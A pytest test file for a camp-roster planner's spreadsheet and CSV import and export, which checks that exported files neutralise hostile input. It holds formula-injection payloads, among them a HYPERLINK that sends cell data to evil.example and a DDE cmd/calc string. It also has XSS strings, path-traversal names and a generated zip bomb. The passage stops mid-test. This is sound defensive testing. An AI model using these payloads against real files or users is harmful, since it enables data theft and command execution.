"""Spreadsheets in and out: import, export, reading an edited roster back, and safety.

The round trip the planners live: workbook -> instance -> roster -> workbook -> check.
Hostile names (``=HYPERLINK(...)``, ``<script>``, ``../../x``) must come out inert.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from builders import camp, make_instance, place, requirement, tiny_data, volunteer
from campplanner.check import check_solution_file
from campplanner.cli import main
from campplanner.contract.calendar import to_ascii_digits
from campplanner.contract.errors import InstanceError
from campplanner.contract.instance import instance_from_data
from campplanner.contract.schema import Instance
from campplanner.io.csv_out import roster_csv_files
from campplanner.io.sanitize import (
    file_stem,
    is_formula_like,
    neutralize_csv,
    restore_csv,
    sheet_name,
)
from campplanner.io.solution_reader import load_solution
from campplanner.io.solution_writer import solution_data
from campplanner.io.tables import read_workbook
from campplanner.io.template import instance_workbook, template_data
from campplanner.io.workbook_in import import_workbook
from campplanner.io.workbook_out import SUMMARY_SHEETS, roster_workbook
from campplanner.model.compile import compile_instance
from campplanner.report import RosterView
from campplanner.solver import CpSatSolver, SolveOptions

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "<script>alert(1)</script>",
    "../../x",
]


def run(*args: str) -> Any:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def comparable(instance: Instance) -> dict[str, Any]:
    data = instance.model_dump()
    data.pop("format")
    return data


def solve_data(data: dict[str, Any]) -> dict[str, Any]:
    instance = instance_from_data(data)
    problem = compile_instance(instance)
    result = CpSatSolver(problem, SolveOptions(time_limit=20)).solve()
    return solution_data(problem, result)


def write_book(path: Path, sheets: dict[str, list[list[Any]]]) -> Path:
    """A workbook as a planner might type it (openpyxl, no template)."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


@pytest.fixture(scope="module")
def tiny_solution(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("tiny") / "solution.json"
    path.write_text(json.dumps(solve_data(tiny_data()), ensure_ascii=False), encoding="utf-8")
    return path


# ------------------------------------------------------------------------------ import


@pytest.mark.parametrize("data", [tiny_data(), template_data()], ids=["tiny", "template"])
def test_instance_to_workbook_and_back_is_the_same_instance(tmp_path: Path, data: dict) -> None:
    path = tmp_path / "season.xlsx"
    path.write_bytes(instance_workbook(data))
    result = import_workbook(path)
    assert comparable(result.instance) == comparable(instance_from_data(data))
    assert result.warnings == []
    assert not result.calendar_guessed  # the settings sheet says jalali


def test_template_command_writes_a_workbook_that_imports(tmp_path: Path) -> None:
    template = tmp_path / "template.xlsx"
    assert run("import", "--template", str(template)).exit_code == 0
    out = tmp_path / "season.json"
    result = run("import", str(template), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert run("validate", str(out)).exit_code == 0
    assert run("import", "--template", str(template)).exit_code == 2  # exists: --force


def test_shipped_template_matches_the_generator() -> None:
    shipped = Path(__file__).resolve().parents[1] / "docs" / "template.xlsx"
    result = import_workbook(shipped)
    assert comparable(result.instance) == comparable(instance_from_data(template_data()))


def _persian_book(tmp_path: Path) -> Path:
    """Persian headers only, Arabic ي/ك, Persian digits, skills by name, Jalali text dates."""
    return write_book(
        tmp_path / "persian.xlsx",
        {
            "تنظیمات": [["تقویم", "شمسی"], ["نام", "اردوی تابستان"], ["روزهای استراحت", "۱"]],
            "مهارت ها": [["شناسه", "نام"], ["nurse", "پرستار"], ["leader", "سرپرست"]],
            "مکانها": [
                ["شناسه", "نام", "عرض جغرافیایی", "طول جغرافیایی", "شهرستان"],
                ["اراك", "اراك", "۳۴٫۰۹۱۷", 49.6892, "اراك"],
                ["روستا۱", "روستاي يك", "34.2", "۴۹٫۵", "اراك"],
            ],
            "داوطلبان": [
                ["شناسه", "نام", "محل سکونت", "جنسیت", "مهارت‌ها", "حداکثر مسافت"],
                ["v۰۱", "زهرا كريمي", "اراک", "زن", "پرستار:۲، leader", "۱۰۰"],
                ["v02", "علی", "اراك", "مرد", "nurse", None],
            ],
            "حضور": [
                ["داوطلب", "از", "تا"],
                ["v01", "۱۴۰۰/۴/۱", "۱۴۰۰-۰۴-۳۱"],
                ["v02", None, None],
            ],
            "اردوها": [
                ["شناسه", "نام", "محل", "شروع", "پایان", "ظرفیت", "اولویت", "جنسیت"],
                ["c۱", "اردوی سلامت", "روستا۱", "۱۴۰۰/۰۴/۱۰", "1400-04-14", "۴", 3.0, "خواهر"],
            ],
            "نیازها": [
                ["اردو", "مهارت", "تعداد", "سطح", "ضروری"],
                ["c1", "پرستار", 2, "۲", "بله"],
                ["c1", "leader", 1, None, "خیر"],
            ],
        },
    )


def test_persian_headers_digits_letters_and_jalali_dates(tmp_path: Path) -> None:
    result = import_workbook(_persian_book(tmp_path))
    data = result.data
    assert data["calendar"] == "jalali" and data["name"] == "اردوی تابستان"
    assert data["rules"] == {"rest_days": 1}
    arak = data["places"][0]
    assert arak["id"] == "اراک" and arak["county"] == "اراک"  # Arabic kaf -> Persian
    assert arak["lat"] == pytest.approx(34.0917)
    assert data["places"][1]["name"] == "روستای یک"
    v01, v02 = data["volunteers"]
    assert v01["id"] == "v01" and v01["name"] == "زهرا کریمی" and v01["home"] == "اراک"
    assert v01["skills"] == {"nurse": 2, "leader": 1}  # "پرستار" is the name of nurse
    assert v01["gender"] == "f" and v01["max_km"] == 100
    assert v01["available"] == [["1400-04-01", "1400-04-31"]]
    assert v02["available"] == []  # a row with no dates: free on no day
    (c1,) = data["camps"]
    assert c1["id"] == "c1" and c1["place"] == "روستا1"
    assert (c1["start"], c1["end"], c1["capacity"], c1["priority"]) == (
        "1400-04-10",
        "1400-04-14",
        4,
        3,
    )
    assert c1["gender"] == "f"
    assert c1["requirements"] == [
        {"skill": "nurse", "count": 2, "level": 2, "essential": True},
        {"skill": "leader", "count": 1, "essential": False},
    ]


def test_a_folder_of_csv_files_reads_like_the_workbook(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(_persian_book(tmp_path))
    folder = tmp_path / "csv"
    folder.mkdir()
    for index, sheet in enumerate(book.worksheets):
        delimiter = ";" if index % 2 else ","  # Excel writes ';' in some locales
        buffer = io.StringIO()
        writer = csv.writer(buffer, delimiter=delimiter)
        for row in sheet.iter_rows(values_only=True):
            writer.writerow(["" if v is None else v for v in row])
        (folder / f"{sheet.title}.csv").write_text(buffer.getvalue(), encoding="utf-8-sig")
    from_csv = import_workbook(folder)
    from_book = import_workbook(tmp_path / "persian.xlsx")
    assert from_csv.data == {**from_book.data, "name": from_book.data["name"]}


def test_gregorian_dates_stored_as_dates(tmp_path: Path) -> None:
    import datetime as dt

    data = make_instance()
    path = tmp_path / "g.xlsx"
    path.write_bytes(instance_workbook(data))
    book = openpyxl.load_workbook(path)
    sheet = book["اردوها"]
    sheet["D2"].value = dt.datetime(2021, 7, 1)  # a real spreadsheet date
    book.save(path)
    result = import_workbook(path)
    assert result.data["camps"][0]["start"] == "2021-07-01"
    # The same day, in a workbook that says Jalali: written in the Jalali calendar.
    assert import_workbook(path, calendar="jalali").data["camps"][0]["start"] == "1400-04-10"


def test_calendar_is_guessed_from_the_years_when_nobody_says(tmp_path: Path) -> None:
    path = _persian_book(tmp_path)
    book = openpyxl.load_workbook(path)
    del book["تنظیمات"]
    book.save(path)
    result = import_workbook(path)
    assert result.data["calendar"] == "jalali" and result.calendar_guessed


def _errors(path: Path, **options: Any) -> list[str]:
    with pytest.raises(InstanceError) as caught:
        import_workbook(path, **options)
    return [str(issue) for issue in caught.value.issues]


def test_errors_name_the_sheet_row_and_column(tmp_path: Path) -> None:
    path = _persian_book(tmp_path)
    book = openpyxl.load_workbook(path)
    camps = book["اردوها"]
    camps["F2"] = "5.5"  # capacity
    camps["D2"] = "1400-13-01"  # start
    volunteers = book["داوطلبان"]
    volunteers["C3"] = "tehran"  # home of v02: unknown place (found by the loader)
    volunteers["E3"] = "nurse:7"
    book["نیازها"]["A3"] = "c9"
    book.save(path)
    errors = _errors(path)
    assert (
        "sheet 'اردوها', row 2, column 'capacity' (F): expected a whole number, got '5.5'" in errors
    )
    assert any(
        e.startswith("sheet 'اردوها', row 2, column 'start' (D): '1400-13-01'") for e in errors
    )
    assert any(e.startswith("sheet 'داوطلبان', row 3, column 'skills' (E)") for e in errors)
    assert "sheet 'نیازها', row 3, column 'camp' (A): unknown camp 'c9'" in errors
    # Fix the cell errors: the loader's cross-checks are mapped back to their cells too.
    camps["F2"], camps["D2"], volunteers["E3"], book["نیازها"]["A3"] = (
        5,
        "1400-04-10",
        "nurse",
        "c1",
    )
    book.save(path)
    assert _errors(path) == ["sheet 'داوطلبان', row 3, column 'home' (C): unknown place 'tehran'"]


def test_missing_sheets_columns_and_required_cells(tmp_path: Path) -> None:
    path = _persian_book(tmp_path)
    book = openpyxl.load_workbook(path)
    del book["مهارت ها"]
    book["مکانها"]["C1"] = "ارتفاع"  # no lat column any more
    book.save(path)
    errors = _errors(path)
    assert any("no skills sheet" in e for e in errors)
    book = openpyxl.load_workbook(_persian_book(tmp_path))
    book["مکانها"]["C1"] = "ارتفاع"
    book["اردوها"]["F2"] = None
    book.save(path)
    errors = _errors(path)
    assert "sheet 'مکانها', row 1: no 'lat' column (head it 'lat' or 'عرض جغرافیایی')" in errors
    book["مکانها"]["C1"] = "lat"
    book.save(path)
    assert _errors(path) == ["sheet 'اردوها', row 2, column 'capacity' (F): required, but empty"]


def test_import_command_exit_codes_and_messages(tmp_path: Path) -> None:
    path = _persian_book(tmp_path)
    out = tmp_path / "season.json"
    result = run("import", str(path), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert json.loads(out.read_text(encoding="utf-8"))["calendar"] == "jalali"
    assert run("import", str(path), "-o", str(out)).exit_code == 2  # exists
    assert run("import", str(path), "-o", str(path), "--force").exit_code == 2  # an input
    book = openpyxl.load_workbook(path)
    book["اردوها"]["F2"] = "many"
    book.save(path)
    result = run("import", str(path), "-o", str(tmp_path / "other.json"))
    assert result.exit_code == 2
    assert "column 'capacity' (F)" in result.output and "Traceback" not in result.output
    assert not (tmp_path / "other.json").exists()
    for bad in (tmp_path / "missing.xlsx", tmp_path / "season.json"):
        result = run("import", str(bad), "-o", str(tmp_path / "x.json"))
        assert result.exit_code == 2 and "Traceback" not in result.output


# ------------------------------------------------------------------------------ export


def test_round_trip_workbook_instance_roster_workbook_check(tmp_path: Path) -> None:
    """The planners' loop: their workbook in, a roster workbook out, edited, checked."""
    source = tmp_path / "season.xlsx"
    source.write_bytes(instance_workbook(tiny_data()))
    instance_file = tmp_path / "season.json"
    assert run("import", str(source), "-o", str(instance_file)).exit_code == 0
    solution = tmp_path / "solution.json"
    assert (
        run("solve", str(instance_file), "-o", str(solution), "-q", "--time-limit", "20").exit_code
        == 0
    )
    roster = tmp_path / "roster.xlsx"
    result = run("export", str(instance_file), str(solution), "--xlsx", str(roster))
    assert result.exit_code == 0, result.output

    result = run("check", str(instance_file), str(roster), "--json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert report["ok"] and report["coverage"] == 29  # tiny's optimum (tests/test_check.py)
    assert report["num_assignments"] == len(load_solution(solution).assignments)

    # A planner edits the master roster: puts v08 (free on no day) into the empty slot.
    book = openpyxl.load_workbook(roster)
    sheet = book["برنامه کل"]
    headers = [cell.value for cell in sheet[1]]
    volunteer_column = headers.index("شناسه داوطلب\n(volunteer)") + 1
    empty_rows = [
        row
        for row in range(2, sheet.max_row + 1)
        if sheet.cell(row, volunteer_column).value is None
    ]
    assert empty_rows, "tiny's optimum leaves one mason slot of c2 empty"
    sheet.cell(empty_rows[0], volunteer_column).value = "v08"
    book.save(roster)
    result = run("check", str(instance_file), str(roster), "--json")
    assert result.exit_code == 1
    assert "H2" in json.loads(result.output)["violations_per_rule"]

    # The edited roster breaks H2: export refuses it, unless told, and then shows it
    # (a workbook is a solution file too).
    html = tmp_path / "edited.html"
    assert run("export", str(instance_file), str(roster), "--html", str(html)).exit_code == 1
    assert (
        run(
            "export", str(instance_file), str(roster), "--html", str(html), "--allow-violations"
        ).exit_code
        == 0
    )
    assert "H2" in html.read_text(encoding="utf-8")


def test_exported_workbook_layout(tmp_path: Path, tiny_path: Path, tiny_solution: Path) -> None:
    view = RosterView.from_solution(instance_from_data(tiny_data()), load_solution(tiny_solution))
    path = tmp_path / "roster.xlsx"
    path.write_bytes(roster_workbook(view))
    book = openpyxl.load_workbook(path)
    names = book.sheetnames
    assert names[:4] == ["خلاصه", "برنامه کل", "برنامه داوطلبان", "جاهای خالی"]
    assert len(names) == SUMMARY_SHEETS + 4  # tiny has four camps: a sheet per camp
    assert all(book[name].sheet_view.rightToLeft for name in names)
    master = book["برنامه کل"]
    assert master["E2"].value == "۱۴۰۰/۰۴/۱۰"  # Jalali dates as text that stays in order
    rows = list(master.iter_rows(min_row=2, values_only=True))
    assert len(rows) == sum(r["count"] for c in tiny_data()["camps"] for r in c["requirements"])
    unfilled = list(book["جاهای خالی"].iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[5], r[11]) for r in unfilled] == [("c2", "mason", 1)]
    itineraries = list(book["برنامه داوطلبان"].iter_rows(min_row=2, values_only=True))
    assert len(itineraries) == len(load_solution(tiny_solution).assignments)
    # The same roster gives the same bytes (a fixed creation date).
    assert roster_workbook(view) == path.read_bytes()


def test_many_camps_give_a_sheet_per_county(tmp_path: Path) -> None:
    counties = ["خمین", "ساوه", "../../x", "a[b]:c*?/d\\e", "اراک" * 20, "History"]
    places = [place(f"p{i}", 34.0 + i / 100, 49.7, county=c) for i, c in enumerate(counties)]
    camps = [camp(f"c{i}", place=f"p{i % len(counties)}") for i in range(12)]
    data = make_instance(
        places=places, groups=[], camps=camps, volunteers=[volunteer("v1", home="p0")]
    )
    solution = {"status": "feasible", "assignments": []}
    view = RosterView.from_solution(instance_from_data(data), load_solution_data(solution))
    book = openpyxl.load_workbook(io.BytesIO(roster_workbook(view)))
    county_sheets = book.sheetnames[SUMMARY_SHEETS:]
    assert len(county_sheets) == len(counties)
    for name in county_sheets:
        assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
    assert len({name.casefold() for name in book.sheetnames}) == len(book.sheetnames)
    assert "History" not in book.sheetnames


def load_solution_data(data: dict[str, Any]) -> Any:
    from campplanner.contract.solution import solution_from_data

    return solution_from_data(data)


def test_csv_files_have_a_bom_and_stay_in_their_folder(tmp_path: Path, tiny_solution: Path) -> None:
    data = tiny_data()
    data["places"][3]["county"] = "../../x"
    data["places"][4]["county"] = "CON"
    instance_file = tmp_path / "i.json"
    instance_file.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    folder = tmp_path / "deep" / "out"
    folder.parent.mkdir()
    result = run("export", str(instance_file), str(tiny_solution), "--csv", str(folder))
    assert result.exit_code == 0, result.output
    written = sorted(p.name for p in folder.iterdir())
    assert {
        "roster.csv",
        "itineraries.csv",
        "unfilled_slots.csv",
        "skills.csv",
        "summary.csv",
    } <= set(written)
    assert sorted(p.name for p in tmp_path.rglob("*.csv")) == written  # nothing escaped
    assert "county-_x.csv" in written and "county-CON.csv" in written
    assert not any(".." in name or "/" in name for name in written)
    for path in folder.iterdir():
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
    roster = (folder / "roster.csv").read_text(encoding="utf-8-sig")
    assert "اردوی سلامت خمین" in roster
    # Exporting again refuses to replace the files, unless --force.
    result = run("export", str(instance_file), str(tiny_solution), "--csv", str(folder))
    assert result.exit_code == 2
    assert (
        run(
            "export", str(instance_file), str(tiny_solution), "--csv", str(folder), "--force"
        ).exit_code
        == 0
    )


def test_export_refuses_bad_outputs(tmp_path: Path, tiny_path: Path, tiny_solution: Path) -> None:
    assert run("export", str(tiny_path), str(tiny_solution)).exit_code == 2  # no output named
    result = run("export", str(tiny_path), str(tiny_solution), "--html", str(tiny_solution))
    assert result.exit_code == 2 and "input" in result.output
    same = str(tmp_path / "r.out")
    assert (
        run("export", str(tiny_path), str(tiny_solution), "--xlsx", same, "--html", same).exit_code
        == 2
    )
    other = tmp_path / "someone.html"
    other.write_text("not ours")
    assert run("export", str(tiny_path), str(tiny_solution), "--html", str(other)).exit_code == 2
    assert other.read_text() == "not ours"
    bad = tmp_path / "bad.json"
    bad.write_text(
        '{"status": "feasible", "assignments": [{"volunteer": "nobody", '
        '"camp": "c1", "skill": "nurse"}]}'
    )
    result = run("export", str(tiny_path), str(bad), "--html", str(tmp_path / "r.html"))
    assert result.exit_code == 2 and "assignments[0].volunteer" in result.output


def test_check_refuses_a_workbook_without_a_roster(tmp_path: Path, tiny_path: Path) -> None:
    path = write_book(tmp_path / "x.xlsx", {"Sheet": [["a", "b"], [1, 2]]})
    result = run("check", str(tiny_path), str(path))
    assert result.exit_code == 2 and "no roster sheet" in result.output
    path = write_book(
        tmp_path / "y.xlsx", {"roster": [["camp", "skill", "volunteer"], ["c1", None, "v01"]]}
    )
    result = run("check", str(tiny_path), str(path))
    assert result.exit_code == 2 and "sheet 'roster', row 2, column 'skill' (B)" in result.output


# ------------------------------------------------------------------------------ safety


def test_formula_neutralisers() -> None:
    for text in HOSTILE[:7]:
        assert is_formula_like(text)
        assert neutralize_csv(text).startswith("'")
        assert restore_csv(neutralize_csv(text)) == text
    for text in ("علی", "v01", "1400-04-10", "'quoted", ""):
        assert not is_formula_like(text)
        assert neutralize_csv(text) == text == restore_csv(text)
    assert file_stem("../../x") == "x"
    assert file_stem("..") == "unnamed" and file_stem("nul.txt").startswith("unnamed-")
    used: set[str] = set()
    assert sheet_name("a/b", used) == "a_b" and sheet_name("A/B", used) == "A_B (2)"


def _hostile_instance() -> dict[str, Any]:
    """Every name, and some ids, hostile; still a valid instance with a roster."""
    data = make_instance(
        places=[
            place("arak", 34.09, 49.69, county="../../x"),
            place("village", 34.2, 49.5, county='=HYPERLINK("http://e.example")'),
        ],
        volunteers=[
            volunteer(f"v{i}", name=name, skills={"nurse": 1}) for i, name in enumerate(HOSTILE)
        ]
        + [volunteer("=1+1", name="@cmd", skills={"nurse": 1})],
        camps=[
            camp(
                "-c1",
                name="<script>alert('camp')</script>",
                capacity=20,
                requirements=[requirement("nurse", count=len(HOSTILE) + 1)],
            ),
            camp("+c2", name="../../x", requirements=[requirement("leader")]),
        ],
    )
    data["skills"][1]["name"] = '<img src=x onerror="alert(1)">'
    data["name"] = "=cmd|'/C calc'!A0"
    return data


def test_hostile_names_are_inert_in_the_workbook_and_the_csv(tmp_path: Path) -> None:
    data = _hostile_instance()
    instance_file = tmp_path / "i.json"
    instance_file.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    solution = tmp_path / "s.json"
    solution.write_text(json.dumps(solve_data(data), ensure_ascii=False), encoding="utf-8")
    roster = tmp_path / "roster.xlsx"
    result = run(
        "export",
        str(instance_file),
        str(solution),
        "--xlsx",
        str(roster),
        "--csv",
        str(tmp_path / "csv"),
    )
    assert result.exit_code == 0, result.output

    # No formula anywhere in the workbook's XML, and every formula-like text is a quoted string.
    with zipfile.ZipFile(roster) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = openpyxl.load_workbook(roster)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.value)
                    seen.add(cell.value)
    assert {'=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "-c1"} <= seen

    # CSV: every field that starts like a formula has the apostrophe.
    for path in (tmp_path / "csv").iterdir():
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for field in row:
                assert not field or field[0] not in "=+-@\t\r", (path.name, field)
    assert all(".." not in p.name for p in (tmp_path / "csv").iterdir())

    # The workbook reads back to the same roster: ids such as "=1+1" survive the trip.
    report = check_solution_file(instance_file, roster)
    assert report.ok and report.num_assignments == len(load_solution(solution).assignments)
    assert {a.volunteer for a in load_solution(roster).assignments} >= {"=1+1", "v0"}


def _unguarded_cells(workbook: Path) -> list[tuple[str, str, str]]:
    """(sheet, cell, text) of every cell a spreadsheet program would run as a formula: a
    formula cell, or a text starting like one without Excel's quote prefix."""
    with zipfile.ZipFile(workbook) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                part = archive.read(name)
                assert b"<f>" not in part and b"<f " not in part, (workbook.name, name)
    found = []
    for sheet in openpyxl.load_workbook(workbook).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = cell.value
                if isinstance(text, str) and text[:1] in "=+-@" and text and not cell.quotePrefix:
                    found.append((sheet.title, cell.coordinate, text))
    return found


def test_every_cell_of_every_workbook_written_is_guarded(tmp_path: Path) -> None:
    # The camp sheets' heading (the line under the title, merged across the team's
    # columns) was written without the guard: a camp called "=1+1" became a live
    # formula once the cell was edited. Every workbook the exports write is scanned.
    data = _hostile_instance()
    data["camps"][0]["name"] = "=1+1"
    data["camps"][1]["name"] = "@SUM(A1:A9)"
    instance_file = tmp_path / "i.json"
    instance_file.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    solution = tmp_path / "s.json"
    solution.write_text(json.dumps(solve_data(data), ensure_ascii=False), encoding="utf-8")
    replan = tmp_path / "replan.json"  # the calls workbook is a re-plan's
    arguments = ["--baseline", str(solution), "-o", str(replan), "-q", "--work-limit", "1"]
    solved = run("solve", str(instance_file), *arguments)
    assert solved.exit_code == 0, solved.output
    exported = run(
        "export",
        str(instance_file),
        str(replan),
        "--xlsx",
        str(tmp_path / "roster.xlsx"),
        "--calls",
        str(tmp_path / "calls"),
    )
    assert exported.exit_code == 0, exported.output
    template = run("import", "--template", str(tmp_path / "instance.xlsx"), str(instance_file))
    assert template.exit_code == 0, template.output
    assert run("import", "--template", str(tmp_path / "template.xlsx")).exit_code == 0
    workbooks = sorted(tmp_path.rglob("*.xlsx"))
    assert {p.name for p in workbooks} >= {"roster.xlsx", "instance.xlsx", "template.xlsx"}
    assert any(p.parent.name == "calls" for p in workbooks)
    for workbook in workbooks:
        assert _unguarded_cells(workbook) == [], workbook.name
    headings = [
        cell.value
        for sheet in openpyxl.load_workbook(tmp_path / "roster.xlsx").worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=1+1 (-c1)")
    ]
    assert headings, "the camp's heading is in the workbook, guarded"


def test_csv_export_api_matches_the_master_sheet(tiny_solution: Path) -> None:
    view = RosterView.from_solution(instance_from_data(tiny_data()), load_solution(tiny_solution))
    files = roster_csv_files(view)
    roster = list(csv.reader(io.StringIO(files["roster.csv"].decode("utf-8-sig"))))
    book = openpyxl.load_workbook(io.BytesIO(roster_workbook(view)))
    master = [
        ["" if v is None else str(v) for v in row]
        for row in book["برنامه کل"].iter_rows(values_only=True)
    ]
    # The same table; the sheet writes headers on two lines and Jalali dates for people
    # (۱۴۰۰/۰۴/۱۰), the CSV file as data (1400-04-10).
    assert [h.replace("\n(", " (") for h in master[0]] == roster[0]
    ascii_rows = [[to_ascii_digits(v).replace("/", "-") for v in row] for row in master[1:]]
    assert ascii_rows == roster[1:]


def test_docs_list_every_sheet_and_column() -> None:
    from campplanner.io.sheets import INSTANCE_SHEETS

    docs = (Path(__file__).resolve().parents[1] / "docs" / "spreadsheets.md").read_text(
        encoding="utf-8"
    )
    for sheet in INSTANCE_SHEETS:
        assert f"### `{sheet.key}` — {sheet.persian}" in docs
        for column in sheet.columns:
            assert f"| `{column.key}` | {column.persian} |" in docs, (sheet.key, column.key)


def test_paths_quoted_in_messages_become_rows(tmp_path: Path) -> None:
    data = tiny_data()
    data["volunteers"][3]["id"] = "v01"  # v04 -> a second v01 (and v04's lock dangles)
    data["camps"][1]["requirements"].append({"skill": "mason", "count": 1})
    path = tmp_path / "season.xlsx"
    path.write_bytes(instance_workbook(data))
    assert _errors(path) == [
        "sheet 'داوطلبان', row 5, column 'id' (A): duplicate id 'v01' (also row 2)",
        "sheet 'نیازها', row 8, column 'skill' (B): a second requirement for 'mason' "
        "(first at row 6); a camp has one requirement per skill: add up the counts",
        "sheet 'قطعی', row 2, column 'volunteer' (A): unknown volunteer 'v04'",
    ]


def test_a_huge_requirement_gives_a_bounded_number_of_empty_rows() -> None:
    from campplanner.io.roster_tables import EMPTY_ROWS_PER_REQUIREMENT, master_table

    huge = camp("c1", capacity=10_000, requirements=[requirement("nurse", count=10_000)])
    data = make_instance(camps=[huge])
    view = RosterView.from_solution(
        instance_from_data(data), load_solution_data({"status": "unknown"})
    )
    rows = master_table(view)
    assert len(rows) == EMPTY_ROWS_PER_REQUIREMENT
    assert rows[-1][9].endswith(f"(+{10_000 - EMPTY_ROWS_PER_REQUIREMENT:,})")
    assert all(row[8] is None for row in rows)  # no volunteer: read back as empty slots


def test_settings_rows_warnings_and_errors(tmp_path: Path) -> None:
    path = _persian_book(tmp_path)
    book = openpyxl.load_workbook(path)
    settings = book["تنظیمات"]
    settings.append(["رنگ", "آبی"])  # no such setting
    settings.append(["ضریب جاده", "۱٫۵"])
    settings.append(["وزن مسافت", 2])
    book.save(path)
    result = import_workbook(path)
    assert result.data["rules"] == {"rest_days": 1, "road_factor": 1.5}
    assert result.data["weights"] == {"travel": 2}
    assert [str(w) for w in result.warnings] == [
        "sheet 'تنظیمات', row 4: unknown setting 'رنگ', ignored"
    ]
    settings["B1"] = "قمری"
    settings["B5"] = "0.5"  # below 1: the contract refuses it, at its cell
    book.save(path)
    assert _errors(path) == [  # both in one run
        "sheet 'تنظیمات', row 1, column 'calendar' (B): expected jalali or gregorian, got 'قمری'",
        "sheet 'تنظیمات', row 5, column 'road_factor' (B): must be at least 1, got 0.5",
    ]


def test_import_and_export_in_a_real_process(tmp_path: Path, tiny_solution: Path) -> None:
    import subprocess
    import sys

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-c", "from campplanner.cli import main; main()", *args],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    source = tmp_path / "season.xlsx"
    source.write_bytes(instance_workbook(tiny_data()))
    instance_file = tmp_path / "season.json"
    done = cli("import", str(source), "-o", str(instance_file))
    assert done.returncode == 0, done.stderr
    assert "12 volunteers" in done.stdout and "calendar jalali" in done.stdout
    roster = tmp_path / "roster.xlsx"
    done = cli("export", str(instance_file), str(tiny_solution), "--xlsx", str(roster))
    assert done.returncode == 0, done.stderr
    assert cli("check", str(instance_file), str(roster)).returncode == 0
    done = cli("import", str(tmp_path / "nothing.xlsx"), "-o", str(tmp_path / "x.json"))
    assert done.returncode == 2 and "no such file" in done.stderr
    assert "Traceback" not in done.stderr


def test_an_instance_file_written_as_a_workbook_for_editing(
    tmp_path: Path, tiny_path: Path
) -> None:
    workbook = tmp_path / "tiny.xlsx"
    result = run("import", "--template", str(workbook), str(tiny_path))
    assert result.exit_code == 0, result.output
    back = tmp_path / "tiny.json"
    assert run("import", str(workbook), "-o", str(back)).exit_code == 0
    assert comparable(instance_from_data(json.loads(back.read_text(encoding="utf-8")))) == (
        comparable(instance_from_data(tiny_data()))
    )
    assert run("import", "--template", str(tiny_path), str(tiny_path), "--force").exit_code == 2


# ------------------------------------------------------------------ crafted workbooks
# Each file is built here, small on disk; before the archive was inspected, each ended
# in a traceback, a MemoryError, or minutes of CPU (issue 17).

SHEET = "xl/worksheets/sheet1.xml"


def _plain_roster(tmp_path: Path) -> tuple[Path, str]:
    path = write_book(
        tmp_path / "plain.xlsx",
        {"roster": [["volunteer", "camp", "skill"], ["v01", "c1", "nurse"]]},
    )
    with zipfile.ZipFile(path) as archive:
        return path, archive.read(SHEET).decode()


def _with_part(tmp_path: Path, name: str, part: Any, member: str = SHEET) -> Path:
    """The plain roster with one part replaced: bytes, or a function writing a stream."""
    source, _ = _plain_roster(tmp_path)
    path = tmp_path / name
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename != member:
                new.writestr(info.filename, old.read(info.filename))
            elif callable(part):
                with new.open(member, "w", force_zip64=True) as stream:
                    part(stream)
            else:
                new.writestr(member, part)
    return path


def _sheet_with(xml: str, rows: str) -> str:
    return xml.replace("</sheetData>", rows + "</sheetData>")


def _refused(tmp_path: Path, tiny_path: Path, path: Path, words: str) -> None:
    """``check`` and ``import`` of ``path``: exit 2, the file named, ``words`` said."""
    for args in (
        ("check", str(tiny_path), str(path)),
        ("import", str(path), "-o", str(tmp_path / "out.json")),
    ):
        result = run(*args)
        assert result.exit_code == 2, (args, result.output)
        assert str(path) in result.output and words in " ".join(result.output.split())
        assert "Traceback" not in result.output and "Error" not in result.output


def test_a_sheet_that_inflates_to_hundreds_of_megabytes_is_refused(
    tmp_path: Path, tiny_path: Path
) -> None:
    _, xml = _plain_roster(tmp_path)
    head, tail = xml.split("</sheetData>")

    def bomb(stream: Any) -> None:  # 300 MiB of blank rows, 300 KB on disk
        stream.write(head.encode())
        for _ in range(300):
            stream.write(b"<row/>" * (1024**2 // 6))
        stream.write(b"</sheetData>" + tail.encode())

    path = _with_part(tmp_path, "bomb.xlsx", bomb)
    assert path.stat().st_size < 1024**2
    _refused(tmp_path, tiny_path, path, "too large to read safely")


def test_a_directory_that_declares_gigabytes_is_refused_before_inflating(
    tmp_path: Path, tiny_path: Path
) -> None:
    source, _ = _plain_roster(tmp_path)
    raw = bytearray(source.read_bytes())
    entry = raw.index(b"PK\x01\x02")  # the first part's entry in the zip's directory
